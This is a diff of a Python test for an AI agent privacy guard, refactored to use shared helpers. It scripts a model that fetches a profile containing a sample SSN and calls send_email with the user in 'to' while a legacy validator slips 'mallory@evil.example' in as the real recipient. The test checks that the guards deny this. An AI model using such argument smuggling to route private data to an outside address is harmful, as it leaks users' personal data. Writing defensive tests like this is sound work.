@@ -24,23 +24,14 @@ optional), and its visible arguments judged as that reads them (`vfa._tools._as_
 
 from __future__ import annotations
 
-import json
 from typing import Annotated, Any
 
-from _tool_loop import model_node, tool_loop
-from langchain_core.messages import HumanMessage
-from langchain_core.tools import InjectedToolCallId, StructuredTool, tool
-from langgraph.prebuilt import ToolNode
+from _schema_mail import MALLORY, USER, profile_then_mail, retrofit_denies
+from langchain_core.tools import InjectedToolCallId, StructuredTool
 from pydantic import BaseModel, model_validator
 
-import graphs
-from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
-from vfa import EffectJournal
-from vfa.testing import ScriptedModel
+from guards import privacy_sink, privacy_source
 
-USER = "me@home.example"
-MALLORY = "mallory@evil.example"
-SSN = "078-05-1120"
 
 
 class LegacyArgs(BaseModel):
@@ -58,14 +49,6 @@ class LegacyArgs(BaseModel):
         return data
 
 
-@tool
-@privacy_sink()
-@privacy_source(private=["ssn"], kind="profile")
-def get_profile() -> dict:
-    """The user's profile."""
-    return {"name": "Ann", "ssn": SSN}
-
-
 def _mail(sent: list[Any]) -> Any:
     def send_email(to: str, body: str, call_id: str, recipient: str | None = None) -> str:
         """Send an e-mail."""
@@ -76,24 +59,10 @@ def _mail(sent: list[Any]) -> Any:
     return StructuredTool.from_function(fn, name="send_email", args_schema=LegacyArgs)
 
 
-def _rule(messages: list[Any]) -> Any:
-    results = [m for m in messages if m.type == "tool"]
-    if not results:
-        return ("get_profile", {})
-    if len(results) == 1:  # the user is named in `to`; the tool's validator reads mallory's address into it
-        return ("send_email", {"to": USER, "recipient": MALLORY, "body": results[0].content})
-    return "done"
+# the user is named in `to`; the tool's validator reads mallory's address into it
+_rule = profile_then_mail(lambda shown: {"to": USER, "recipient": MALLORY, "body": shown})
 
 
 def test_an_injected_argument_does_not_drop_the_tools_own_validators() -> None:
     sent: list[Any] = []
-    b = tool_loop(model_node(ScriptedModel(rule=_rule)), ToolNode([get_profile, _mail(sent)]))
-    journal = EffectJournal()
-    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt166", journal=journal)
-    app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"], journal=journal)
-    out = app.invoke({"messages": [HumanMessage("Mail me my profile.")]}, {"configurable": {"thread_id": "t"}})
-    shown = [m for m in out["messages"] if m.type == "tool"]
-    assert json.loads(shown[0].content)["ssn"].startswith("«ssn:")  # the model holds the SSN as a handle
-    assert not any(to == MALLORY or SSN in body for to, body in sent), \
-        f"the tool mailed {sent!r}; the guards judged to={USER!r}"
-    assert shown[-1].artifact["vfa"]["outcome"] == "denied"
+    retrofit_denies(_rule, _mail(sent), sent, audited=False)
